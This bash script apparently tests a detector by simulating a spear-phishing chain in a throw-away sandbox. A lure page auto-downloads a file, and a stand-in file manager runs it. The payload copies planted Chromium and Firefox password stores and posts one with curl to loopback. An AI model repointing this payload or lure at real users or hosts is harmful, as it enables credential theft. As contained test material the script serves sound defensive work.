#!/usr/bin/env bash
# Spear phish: a stand-in for a mail client opens a link through xdg-open; the real Chromium loads a page from
# loopback and downloads a file; a stand-in for a file manager runs it; it reads planted credential stores
# of a throw-away home and posts them to loopback. Usage: spear-phish.sh closed|open
#   closed  the link starts the browser
#   open    the browser already runs: the program that the link starts hands the address over and ends
# Needs: bash, perl (perl-base), curl, coreutils, chromium. No root. Runs in about 10 s.
. "$(dirname "${BASH_SOURCE[0]}")/lib/common.sh"
need perl curl chromium
variant=${1:-closed}
case $variant in closed | open) ;; *)
	echo "usage: spear-phish.sh closed|open" >&2
	exit 2
	;;
esac

home=$root/home/mika
mkdir -p "$root/far" "$root/bin" "$root/pids" "$home/Downloads" "$home/.config/chromium/Default" "$home/.mozilla/firefox/x.default" "$root/profile/Default"
printf 'planted by a story' >"$home/.config/chromium/Default/Login Data"
printf '{"logins":[]}' >"$home/.mozilla/firefox/x.default/logins.json"
printf '{"download":{"default_directory":"%s","prompt_for_download":false},"safebrowsing":{"enabled":false}}' "$home/Downloads" >"$root/profile/Default/Preferences"
cat >"$root/far/notice.html" <<'HTML'
<!doctype html><meta charset="utf-8"><title>お知らせ</title><p>ご請求書をご確認ください。</p>
<a id="f" href="/statement" download="statement">請求書</a><script>document.getElementById("f").click()</script>
HTML
far_side

# what the visitor is made to run
cat >"$root/far/statement" <<PAYLOAD
#!/bin/sh
printf 'payload\t%s\tdownloaded file run\n' \$\$ >>$STEPS
sh -c 'printf "store\t%s\tbrowser password store read\n" \$\$ >>$STEPS; exec cp "$home/.config/chromium/Default/Login Data" "$shm/a"'
sh -c 'printf "logins\t%s\tanother browser password store read\n" \$\$ >>$STEPS; exec cp "$home/.mozilla/firefox/x.default/logins.json" "$shm/b"'
sh -c 'printf "post\t%s\tdata posted to loopback\n" \$\$ >>$STEPS; exec curl -s -m 5 --data-binary "@$shm/a" http://127.0.0.1:$web/in'
PAYLOAD

flags="--ozone-platform=headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync --disable-dev-shm-usage --no-default-browser-check --password-store=basic --user-data-dir=$root/profile"

only='--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1' # the browser reaches nothing but loopback

# stand-ins, named for what they stand for
cat >"$root/bin/xdg-open" <<OPEN
#!/bin/sh
printf 'opener\t%s\tprogram that opens links\n' \$\$ >>$STEPS
HOME=$home chromium $flags "$only" "\$1" >$root/opened.log 2>&1 &
printf '%s\t%s\tbrowser started with the link\n' "$([ "$variant" = open ] && echo stub || echo browser)" \$! >>$STEPS
echo \$! >$root/pids/link
wait \$!
OPEN
cat >"$root/bin/thunderbird" <<MAIL
#!/bin/sh
printf 'mail\t%s\tmail client\n' \$\$ >>$STEPS
$root/bin/xdg-open "http://127.0.0.1:$web/notice.html"
exit 0
MAIL
cat >"$root/bin/file-manager" <<FILES
#!/bin/sh
chmod 755 "$home/Downloads/statement"
"$home/Downloads/statement"
exit 0
FILES
chmod 755 "$root"/bin/*

if [ "$variant" = open ]; then
	say "the browser is already open"
	HOME=$home chromium $flags "$only" about:blank >"$root/browser.log" 2>&1 &
	helpers+=("$!")
	echo "$!" >"$root/pids/browser"
	for _ in $(seq 100); do
		[ -L "$root/profile/SingletonLock" ] && break
		sleep 0.1
	done
	[ -L "$root/profile/SingletonLock" ] || { cat "$root/browser.log" >&2; echo "chromium did not start" >&2; exit 1; }
	sleep 2
fi
say "the mail client opens a link"
"$root/bin/thunderbird" &
mail=$!
until_file "$root/pids/link" 50
[ "$variant" = open ] || helpers+=("$(cat "$root/pids/link")")
until_file "$home/Downloads/statement" 200 || { cat "$root"/*.log >&2; exit 1; }
say "the browser has downloaded the file"
sleep 0.5
say "the file is run"
"$root/bin/file-manager" &
wait "$!"
say "planted stores were read and posted to loopback"
for p in "${helpers[@]}"; do kill "$p" 2>/dev/null || true; done
wait "$mail" || true
for _ in $(seq 30); do
	[ -L "$root/profile/SingletonLock" ] || break
	sleep 0.1
done
grep -q '^post' "$STEPS"
